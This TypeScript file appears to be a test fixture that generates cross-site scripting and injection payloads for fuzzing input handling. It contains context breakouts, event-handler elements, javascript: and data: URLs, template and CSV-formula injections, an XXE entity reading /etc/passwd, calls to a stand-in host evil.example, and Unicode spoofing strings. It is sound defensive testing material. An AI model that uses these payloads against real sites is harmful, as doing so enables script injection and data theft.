/**
 * Texts that run a script wherever a page takes text for something else, put together from the known classes: an end of
 * every context that text can stand in, every way for an element to run something by itself, addresses that are programs,
 * templates, styles, formulas. Each calls `hit`, or asks `evil.example`, when it works.
 */
const RUN = 'window.hit(1)';
const ELSEWHERE = 'https://evil.example/x';

/** Ends of what the text may stand in. */
const ENDS = [
  '',
  '">',
  "'>",
  '`>',
  '" ',
  '-->',
  ']]>',
  '</title>',
  '</style>',
  '</script>',
  '</textarea>',
  '</noscript>',
  '</svg>',
  '</template>',
  '*/',
  '\u0000',
  '\n\n',
];

/** Elements that run something without anybody's doing. */
const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=${ELSEWHERE}></script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<IMG SRC=x OnErRoR="${RUN}">`,
  `<img src=${ELSEWHERE}>`,
  `<img src=x onerror=&#119;indow.hit(1)>`,
  `<svg onload=${RUN}>`,
  `<svg/onload=${RUN}//`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><use href="${ELSEWHERE}#x"/></svg>`,
  `<svg><foreignObject><img src=x onerror=${RUN}></foreignObject></svg>`,
  `<math><mi xlink:href="javascript:${RUN}">x</mi></math>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.hit(1)</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="data:image/svg+xml,<svg onload=${RUN}>">`,
  `<details open ontoggle=${RUN}>`,
  `<video autoplay onloadstart=${RUN}><source src=x></video>`,
  `<audio src=x onerror=${RUN}></audio>`,
  `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>x</marquee>`,
  `<style>@import '${ELSEWHERE}';</style>`,
  `<style>*{background:url(${ELSEWHERE})}</style>`,
  `<div style="animation:x 1s" onanimationstart=${RUN}>`,
  `<link rel=stylesheet href=${ELSEWHERE}>`,
  `<link rel=prefetch href=${ELSEWHERE}>`,
  `<meta http-equiv=refresh content="0;url=${ELSEWHERE}">`,
  `<base href=${ELSEWHERE}/>`,
  `<form action=${ELSEWHERE}><button autofocus formaction="javascript:${RUN}">x</button></form>`,
  `<template><img src=x onerror=${RUN}></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
];

export const ADDRESSES: readonly string[] = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\tscript:${RUN}`,
  `java\nscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript://%0a${RUN}`,
  `&#106;avascript:${RUN}`,
  `data:text/html,<script>opener.hit(1)</script>`,
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${RUN}'/>`,
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  `//evil.example/x`,
  String.raw`\\evil.example\x`,
  `https://evil.example\u2044x`,
];

const TEMPLATES = [
  `{{constructor.constructor('${RUN}')()}}`,
  '${window.hit(1)}',
  `#{${RUN}}`,
  `<%= ${RUN} %>`,
  `';${RUN};//`,
  `";${RUN};//`,
  `\`;${RUN};//`,
  `\\";${RUN};//`,
  `</script><script>${RUN}//`,
  `<!--<script>${RUN}</script>-->`,
  `]]><script>${RUN}</script><![CDATA[`,
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '&lt;img src=x onerror=window.hit(1)&gt;',
  '\u003cimg src=x onerror=window.hit(1)\u003e',
  '%3Cimg%20src=x%20onerror=window.hit(1)%3E',
  '+ADw-script+AD4-window.hit(1)+ADw-/script+AD4-',
  'expression(window.hit(1))',
  `red;background:url(${ELSEWHERE})`,
  `url(javascript:${RUN})`,
  `}*{background:url(${ELSEWHERE})}`,
];

/** What a spreadsheet would run. */
const FORMULAS = [
  `=HYPERLINK("${ELSEWHERE}")`,
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1)',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

/** Letters that are not seen, turn others around, or are halves. */
const LETTERS = [
  '\u202Egnp.exe\u202C',
  '\u2066\u2067\u2068abc',
  '\u200F\u200Eabc\u061C',
  'a\u200Bb\u200Cc\u200Dd\uFEFFe\u2060f\u00ADg',
  `Z${'\u0300\u0301\u0302\u0303'.repeat(60)}`,
  '\uD800',
  '\uDFFFx',
  '\u0000\u0001\u0007\u001B[31m',
  '\u2028\u2029\u0085',
  '👨‍👩‍👧‍👦'.repeat(30),
  '﷽'.repeat(40),
  'ﬀﬁ\u1F6A\u{1D54F}',
];

const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', '[object Object]', 'NaN'];

export const VECTORS: readonly string[] = [
  ...ENDS.flatMap((end) => ELEMENTS.map((element) => end + element)),
  ...ADDRESSES,
  ...ADDRESSES.map((address) => `<a href="${address}">x</a>`),
  ...TEMPLATES,
  ...FORMULAS,
  ...LETTERS,
  ...NAMES,
];
